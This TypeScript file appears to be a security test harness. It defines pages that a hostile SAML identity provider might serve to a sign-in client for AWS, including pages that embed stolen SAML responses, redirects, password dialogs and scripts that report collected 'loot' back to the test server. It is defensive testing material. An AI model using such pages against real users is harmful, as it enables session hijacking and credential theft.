import { type Html, html, page } from '../idp/page.ts';

/** What a hostile provider answers with. */
export type Attack =
  /** A page that a test, or a person, acts from. */
  | { readonly kind: 'page'; readonly html: string }
  /** A page with a sound answer of the company in it, which it may post where it likes. */
  | { readonly kind: 'page-with-answer'; html(samlResponse: string): string }
  /** A page with a sound answer of another customer of AWS. */
  | { readonly kind: 'page-with-strange-answer'; html(samlResponse: string): string }
  /** Sends what it is sent on to AWS. */
  | { readonly kind: 'pass-on'; readonly to: string }
  | { readonly kind: 'redirect'; readonly to: string }
  | { readonly kind: 'script'; readonly text: string }
  /** A program that the browser is to save. */
  | { readonly kind: 'download' }
  /** HTTP authentication: the browser itself is to ask for user and password. */
  | { readonly kind: 'password-dialog' }
  /** A page of which nothing ever comes. */
  | { readonly kind: 'silence' };

/** For a page that nobody sees: it shows nothing to press, so that Mai leaves it to itself, and goes on to the next attack. */
const HIDE = html`const later = new URLSearchParams(location.search).getAll('then');
    if (later.length > 0) document.querySelector('button').remove();`;
const GO_ON = html`if (later.length > 0) location.href = later[0] + '?' + new URLSearchParams(later.slice(1).map(each => ['then', each]));`;

const dressed = (title: string, script: Html): string =>
  page(
    title,
    html`<h1>${title}</h1><button type="button">Continue</button><script>${HIDE}
    ${script}</script>`,
  );

export const attack = (title: string, script: Html): Attack => ({ kind: 'page', html: dressed(title, script) });

export const redirect = (to: string): Attack => ({ kind: 'redirect', to });

/** Tells the server at its end what it got. What answers nothing within a second has got nothing. */
const telling = (script: Html): Html => html`(async () => {
    const loot = [];
    const take = async (name, run) => {
      try {
        const late = new Promise(resolve => setTimeout(resolve, 1000));
        if (await Promise.race([run(), late])) loot.push(name);
      } catch {}
    };
    ${script}
    await fetch(location.pathname + '/loot', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(loot) });
    ${GO_ON}
  })();`;

/** A page with an answer of another customer of AWS in `answer`, and a script. */
export const strange = (title: string, script: Html): Attack => ({
  kind: 'page-with-strange-answer',
  html: samlResponse =>
    page(title, html`<h1>${title}</h1><script>const answer = '${samlResponse}';\n${script}</script>`),
});

/** A page whose script reaches for things by `take(name, run)`, and tells what it got. */
export const raid = (title: string, script: Html): Attack => attack(title, telling(script));

/** The same with a sound answer of the company in `answer`. */
export const raidWithAnswer = (title: string, script: Html): Attack => ({
  kind: 'page-with-answer',
  html: samlResponse => dressed(title, html`const answer = '${samlResponse}';\n${telling(script)}`),
});
